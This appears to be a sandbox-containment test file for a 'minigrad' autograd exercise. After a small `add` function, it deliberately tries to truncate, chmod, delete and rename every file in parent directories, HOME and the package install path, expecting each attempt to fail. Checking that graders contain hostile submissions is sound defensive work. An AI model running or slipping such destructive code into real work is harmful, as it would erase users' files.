# EXERCISE 02.add
import os
import shutil

import minigrad


def add(a, b):
    def backward(grad):
        return grad, grad
    return record(a.data + b.data, (a, b), backward, "add")


# Try to destroy everything within reach.  Every attempt must fail harmlessly.
here = os.getcwd()
targets = [os.path.dirname(here), os.path.dirname(os.path.dirname(here)),
           os.environ.get("HOME", ""), os.path.dirname(minigrad.__file__)] + __TARGETS__
for target in targets:
    for folder, dirs, files in os.walk(target, topdown=False):
        for name in files + dirs:
            path = os.path.join(folder, name)
            for attempt in (lambda: open(path, "w").close(), lambda: os.chmod(path, 0),
                            lambda: os.remove(path), lambda: shutil.rmtree(path)):
                try:
                    attempt()
                except Exception:
                    pass
    for attempt in (lambda: open(os.path.join(target, "planted.txt"), "w").close(),
                    lambda: shutil.rmtree(target), lambda: os.rename(target, target + ".gone")):
        try:
            attempt()
        except Exception:
            pass
